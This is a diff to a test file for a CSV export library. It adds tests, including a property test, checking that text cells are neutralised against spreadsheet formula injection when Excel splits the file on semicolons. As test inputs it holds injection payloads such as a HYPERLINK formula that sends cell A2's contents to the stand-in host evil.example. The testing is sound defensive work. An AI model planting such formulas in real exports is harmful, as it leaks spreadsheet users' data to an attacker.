@@ -1,8 +1,9 @@
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { csvExport } from "~/api/csv-export";
 import { CSV_BOM, csvHeaderLine, csvLine, csvNumber, csvRowLines, csvText, type CsvColumn } from "~/lib/csv";
 import { dayOf, dayRange, dayTimeOf, isDay } from "~/lib/days";
-import { readCsv } from "../csv-reader";
+import { FORMULA_START, readCsv, readCsvSplitOnSemicolons } from "../csv-reader";
 
 describe("CSV text cells", () => {
   it("neutralises every start OWASP names: = + - @ tab and carriage return", () => {
@@ -10,9 +11,10 @@ describe("CSV text cells", () => {
     expect(csvText("+21622123456")).toBe("'+21622123456");
     expect(csvText("-2+3")).toBe("'-2+3");
     expect(csvText("@cmd")).toBe("'@cmd");
-    expect(csvText("\t=1")).toBe("'\t=1");
+    // The tab and the carriage return are also where a reading may split the text: the `=` after them is neutralised too.
+    expect(csvText("\t=1")).toBe("'\t'=1");
     // A carriage return also needs quotes.
-    expect(csvText("\r=1")).toBe(`"'\r=1"`);
+    expect(csvText("\r=1")).toBe(`"'\r'=1"`);
   });
 
   it("leaves other text as it is, formula characters inside it included", () => {
@@ -32,6 +34,58 @@ describe("CSV text cells", () => {
     expect(csvText("line one\nline two")).toBe(`"line one\nline two"`);
     expect(csvText("line one\r\nline two")).toBe(`"line one\r\nline two"`);
     expect(csvText('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
+  });
+});
+
+describe("CSV text cells read by Excel split on `;` (a French or Tunisian machine)", () => {
+  const semicolonCells = (text: string) => readCsvSplitOnSemicolons(new TextEncoder().encode(CSV_BOM + csvLine(["x", csvText(text), "y"])));
+
+  it("quotes a cell holding `;` and neutralises a formula after any `;`, `,`, tab or line break in it", () => {
+    expect(csvText("Amel;=2+3;x")).toBe(`"Amel;'=2+3;x"`);
+    expect(csvText('a;=HYPERLINK("http://evil.example?"&A2,"Details");')).toBe(`"a;'=HYPERLINK(""http://evil.example?""&A2,""Details"");'"`);
+    expect(csvText("a,+1")).toBe(`"a,'+1"`);
+    expect(csvText("a\t-1")).toBe("a\t'-1");
+    expect(csvText("line\r\n@SUM(A1)")).toBe(`"line\r\n'@SUM(A1)"`);
+    expect(csvText(";\t=1")).toBe(`";'\t'=1"`);
+    // Behind double quotes: split on `;`, `""=1` is an empty quoted part and then the bare `=1`.
+    expect(csvText('x;"=1')).toBe(`"x;'""=1"`);
+    // A `;` or line break ending the text: the quote closing the cell comes next in the file.
+    expect(csvText("Rue 5;")).toBe(`"Rue 5;'"`);
+    expect(csvText("Bonjour\n")).toBe(`"Bonjour\n'"`);
+    // Ordinary punctuation stays as it is.
+    expect(csvText("Tunis, La Marsa; 2e étage")).toBe(`"Tunis, La Marsa; 2e étage"`);
+    expect(csvText("Rue 5, Tunis")).toBe(`"Rue 5, Tunis"`);
+  });
+
+  it("gives no cell a formula, as Excel reads the file split on `;`", () => {
+    expect(semicolonCells("Amel;=2+3;x")).toEqual([["x,\"Amel", "'=2+3", 'x",y']]);
+    expect(semicolonCells('Rue;=HYPERLINK("http://evil.example?"&A2,"Details");')).toEqual([
+      ['x,"Rue', `'=HYPERLINK(""http://evil.example?""&A2,""Details"")`, `'",y`],
+    ]);
+  });
+
+  it("any text, in any column, reads back whole with comma quoting and without a formula split on `;` (property)", () => {
+    // Texts made mostly of the characters that matter here, so that every combination comes up.
+    const char = fc.oneof(
+      { weight: 3, arbitrary: fc.constantFrom(";", ",", '"', "\r", "\n", "\t", "=", "+", "-", "@", "'", " ") },
+      { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 1, unit: "grapheme" }) },
+    );
+    const text = fc.string({ unit: char, maxLength: 20 });
+    fc.assert(
+      fc.property(fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 4 }), (rows) => {
+        const file = CSV_BOM + csvLine(["A", "B", "C"]) + rows.map((row) => csvLine(row.map(csvText))).join("");
+        const bytes = new TextEncoder().encode(file);
+        // Read as RFC 4180 says, every cell is the text, with only neutralising apostrophes added.
+        const strict = readCsv(bytes);
+        expect(strict.rows.map((row) => row.map((cell) => cell.replace(/'/g, "")))).toEqual(rows.map((row) => row.map((cell) => cell.replace(/'/g, ""))));
+        // Read split on `;`, no cell starts a formula.
+        const formulas = readCsvSplitOnSemicolons(bytes)
+          .flat()
+          .filter((cell) => FORMULA_START.test(cell));
+        expect(formulas).toEqual([]);
+      }),
+      { numRuns: 2000 },
+    );
   });
 });
 
